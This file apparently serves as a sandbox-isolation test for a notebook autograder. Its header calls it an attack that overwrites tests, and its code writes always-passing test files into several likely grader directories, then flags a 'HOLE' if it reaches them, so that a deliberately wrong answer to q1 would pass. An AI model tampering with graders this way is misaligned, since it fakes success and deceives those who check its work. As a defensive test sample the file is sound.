# ---
# attack: Replaces the test files wherever a grader might keep them by some that always pass.
# class: overwrite tests
# sandboxes: [namespaces]
# ---
# %% before="q1"
import os

written = []
for folder in ("tests", "../tests", "<<COURSE>>/solutions/mini", "<<COURSE>>/.autograder/build", "/autograder/tests"):
    try:
        os.makedirs(folder, exist_ok=True)
        for name in ("q1.py", "test_q1.py", "master.py"):
            with open(os.path.join(folder, name), "w") as file:
                file.write("def test_double_of_two(double):\n    pass\n")
        written.append(folder)
    except OSError:
        pass
if any("<<COURSE>>" in folder or "autograder" in folder for folder in written):
    raise RuntimeError(f"HOLE {written}")

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
